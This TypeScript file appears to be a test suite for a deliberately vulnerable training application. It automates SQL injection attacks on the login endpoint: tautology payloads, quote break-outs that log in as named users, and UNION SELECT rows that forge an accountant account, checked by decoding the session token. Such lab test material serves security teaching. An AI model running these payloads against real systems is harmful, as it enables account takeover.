import type { Attack, Tools } from '#lab'

/** Logs in with this e-mail address and any password, and checks whose session it is. */
async function breakIn({ http, expect }: Tools, email: string, owner: string): Promise<void> {
  const answer = await http.post('/rest/user/login', { email, password: 'a' })
  expect(answer.status === 200, `the login answered with ${answer.status}`)
  const { authentication } = answer.json<{ authentication: { umail: string } }>()
  expect(authentication.umail === owner, `the session belongs to ${authentication.umail}`)
}

/** Breaks out of the quotes after a known address. */
function behindAddress(challenge: string, person: string): Attack[] {
  return [
    {
      challenge,
      name: `${person}@…'-- with any password`,
      run: (tools) => {
        const owner = `${person}@${tools.settings.domain}`
        return breakIn(tools, `${owner}'--`, owner)
      },
    },
    {
      challenge,
      name: `${person}@…' or email=' and no comment sign`,
      run: (tools) => {
        const owner = `${person}@${tools.settings.domain}`
        return breakIn(tools, `${owner}' or email='`, owner)
      },
    },
  ]
}

/** Makes the query return an invented user, and checks the role. */
async function logInAsInventedUser(tools: Tools, row: (email: string) => string): Promise<void> {
  const { http, settings, expect } = tools
  const owner = `acc0unt4nt@${settings.domain}`
  const answer = await http.post('/rest/user/login', {
    email: `' UNION SELECT ${row(owner)}--`,
    password: 'a',
  })
  expect(answer.status === 200, `the login answered with ${answer.status}`)
  const { umail, token } = answer.json<{ authentication: { umail: string; token: string } }>().authentication
  expect(umail === owner, `the session belongs to ${umail}`)
  const { role } = JSON.parse(
    atob((token.split('.')[1] ?? '').replaceAll('-', '+').replaceAll('_', '/')),
  ).data
  expect(role === 'accounting', `the accountant is ${role}`)
}

export const attacks: Attack[] = [
  {
    challenge: 'loginAdminChallenge',
    name: "' or 1=1-- with any password",
    run: (tools) => breakIn(tools, "' or 1=1--", `admin@${tools.settings.domain}`),
  },
  {
    challenge: 'loginAdminChallenge',
    name: "' OR true-- with any password",
    run: (tools) => breakIn(tools, "' OR true--", `admin@${tools.settings.domain}`),
  },
  ...behindAddress('loginAdminChallenge', 'admin'),
  ...behindAddress('loginJimChallenge', 'jim'),
  ...behindAddress('loginBenderChallenge', 'bender'),
  {
    challenge: 'ephemeralAccountantChallenge',
    name: 'a UNION that brings its own accountant along',
    run: (tools) =>
      logInAsInventedUser(
        tools,
        (email) =>
          `* FROM (SELECT 15 as 'id', '' as 'username', '${email}' as 'email', '12345' as 'password', ` +
          `'accounting' as 'role', '123' as 'deluxeToken', '1.2.3.4' as 'lastLoginIp' , ` +
          `'/assets/public/images/uploads/default.svg' as 'profileImage', '' as 'totpSecret', 1 as 'isActive', ` +
          `'1999-08-16 14:14:41.644 +00:00' as 'createdAt', '1999-08-16 14:33:41.930 +00:00' as 'updatedAt', ` +
          `null as 'deletedAt')`,
      ),
  },
  {
    challenge: 'ephemeralAccountantChallenge',
    name: 'thirteen bare values in the order of the table',
    run: (tools) =>
      logInAsInventedUser(
        tools,
        (email) => `2, '', '${email}', '', 'accounting', '', '', '', '', 1, 0, 0, NULL`,
      ),
  },
]
